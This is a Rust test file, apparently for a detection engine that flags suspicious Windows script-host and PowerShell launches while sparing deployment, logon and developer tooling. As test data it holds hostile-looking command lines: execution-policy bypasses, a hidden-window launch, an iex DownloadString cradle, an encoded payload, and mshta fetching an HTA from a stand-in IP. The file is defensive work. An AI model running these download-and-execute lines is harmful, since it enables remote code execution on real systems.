use super::*;

const SERVICES: &str = r"C:\Windows\System32\services.exe";

#[test]
fn every_weak_stage_alone_is_silent() {
    for (image, line) in [
        (WSCRIPT, r#"wscript "C:\Users\ann\Desktop\a.vbs""#),
        (WSCRIPT, r#"wscript "D:\a.vbs""#),
        (WSCRIPT, r#"wscript "\\files\tools\a.vbs""#),
        (WSCRIPT, r#"wscript "C:\Windows\System32\own.vbs""#),
        (WSCRIPT, r#"wscript //e:jscript "C:\Tools\a.txt""#),
        (
            POWERSHELL,
            r"powershell -ep bypass -File C:\Users\ann\Desktop\a.ps1",
        ),
        (
            POWERSHELL,
            r"powershell -ep bypass -w hidden -File C:\Users\ann\a.ps1",
        ),
        (POWERSHELL, "powershell -ep bypass -NoExit"),
        (CMD, r"cmd /c C:\Users\ann\AppData\Local\Temp\a.bat"),
        (
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 \\files\drv\a.inf",
        ),
        (
            POWERSHELL,
            "powershell -ep bypass -c \"iex ((New-Object Net.WebClient).DownloadString(\
             'https://community.chocolatey.org/install.ps1'))\"",
        ),
        (
            r"C:\Windows\System32\mshta.exe",
            "mshta http://203.0.113.5/a.hta",
        ),
        (
            r"C:\sc\prog\exec\scilc.exe",
            r"scilc.exe -do pack\scil\s1.txt",
        ),
    ] {
        assert!(
            run([start(2, image, line, 1, CMD).at(NOON)]).is_empty(),
            "{line}"
        );
    }
    let encoded = format!("powershell -enc {CRADLE}");
    assert!(run([start(2, POWERSHELL, &encoded, 1, CMD).at(NOON)]).is_empty());
}

#[test]
fn deployment_tools_run_scripts_all_day() {
    for (parent, line) in [
        (
            r"C:\Windows\CCM\CcmExec.exe",
            r"powershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass & 'C:\Windows\CCM\SystemTemp\a.ps1'",
        ),
        (
            r"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe",
            r#"powershell.exe -NoProfile -executionPolicy bypass -file "C:\ProgramData\Microsoft\IntuneManagementExtension\a.ps1""#,
        ),
        (
            r"C:\Program Files\Amazon\SSM\ssm-document-worker.exe",
            r"powershell -InputFormat None -Noninteractive -NoProfile -ExecutionPolicy unrestricted -f C:\ProgramData\Amazon\SSM\InstanceData\x\_script.ps1",
        ),
        (
            SERVICES,
            r"powershell -ep bypass -Command iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        ),
    ] {
        assert!(
            run([start(2, POWERSHELL, line, 1, parent).at(NOON)]).is_empty(),
            "{line}"
        );
    }
}

#[test]
fn a_name_does_not_make_a_deployment_tool() {
    let parent = r"C:\Users\Public\CcmExec.exe";
    let line = format!("powershell -ep bypass -e {CRADLE}");
    assert_eq!(
        run([start(2, POWERSHELL, &line, 1, parent).at(NOON)]).len(),
        1
    );
}

#[test]
fn a_drive_mapping_script_that_starts_hidden_powershell() {
    let script = r"C:\ProgramData\maps\map.ps1";
    let found = run([
        start(
            2,
            WSCRIPT,
            r#"wscript.exe "C:\ProgramData\maps\map.vbs""#,
            1,
            r"C:\Windows\System32\svchost.exe",
        )
        .at(NOON),
        start(
            3,
            POWERSHELL,
            &format!("powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File {script}"),
            2,
            WSCRIPT,
        ),
    ]);
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn monitoring_logon_and_diagnostic_scripts() {
    let cscript = r"C:\Windows\System32\cscript.exe";
    for (image, line, parent) in [
        (
            cscript,
            r#"cscript.exe /nologo "MonitorKnowledgeDiscovery.vbs""#,
            r"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe",
        ),
        (
            WSCRIPT,
            r#"wscript.exe "c:\Program Files\sysinternals\bginfo.vbs""#,
            EXPLORER,
        ),
        (
            cscript,
            r"cscript.exe C:\Windows\system32\gatherNetworkInfo.vbs",
            r"C:\Windows\System32\netsh.exe",
        ),
        (
            WSCRIPT,
            r#"wscript.exe "\\corp.example\SysVol\corp.example\scripts\logon.vbs""#,
            r"C:\Windows\System32\gpscript.exe",
        ),
    ] {
        let events = [
            start(2, image, line, 1, parent).at(NOON),
            start(
                3,
                r"C:\Windows\System32\net.exe",
                r"net use S: \\files\s",
                2,
                image,
            ),
        ];
        assert!(run(events).is_empty(), "{line}");
    }
}

#[test]
fn approved_scripts_are_left_alone() {
    let site = json!({ "approved_script_paths": [r"C:\ProgramData\plant\*"] });
    let found = at_site(
        site,
        [
            set_value(
                2,
                r"C:\Windows\System32\reg.exe",
                WSH_ENABLED,
                "DWORD (0x00000001)",
            )
            .at(NOON),
            start(
                3,
                WSCRIPT,
                r#"wscript "C:\ProgramData\plant\shift.vbs""#,
                1,
                EXPLORER,
            ),
        ],
    );
    assert_eq!(found.len(), 1, "{found:#?}");
}

#[test]
fn maintenance_excuses_the_hour_but_not_the_effect() {
    let site =
        json!({ "maintenance_windows": [{ "days": ["mon"], "from": "11:00", "to": "13:00" }] });
    let quiet = start(
        2,
        WSCRIPT,
        r#"wscript //e:jscript "C:\Users\ann\Desktop\a.js""#,
        1,
        EXPLORER,
    );
    let child = start(
        3,
        POWERSHELL,
        &format!("powershell -w 1 -enc {CRADLE}"),
        2,
        WSCRIPT,
    );
    assert!(at_site(site.clone(), [quiet.clone().at(NOON)]).is_empty());
    assert_eq!(at_site(site, [quiet.at(NOON), child]).len(), 1);
}

#[test]
fn a_developers_console_is_silent() {
    let code = r"C:\Users\ann\AppData\Local\Programs\Microsoft VS Code\Code.exe";
    let found = run([
        start(2, POWERSHELL, "powershell -NoProfile -ExecutionPolicy Bypass -Command Import-Module 'C:\\x\\PowerShellEditorServices.psd1'; Start-EditorServices", 1, code).at(NOON),
        event(class::SCRIPT_EXECUTE)
            .by(2)
            .set(field::SCRIPT_PATH, r"C:\Users\ann\src\build.ps1")
            .set(field::SCRIPT_CONTENT, "dotnet build"),
        start(3, r"C:\Users\ann\src\bin\app.exe", "app.exe", 2, POWERSHELL),
    ]);
    assert!(found.is_empty(), "{found:#?}");
}
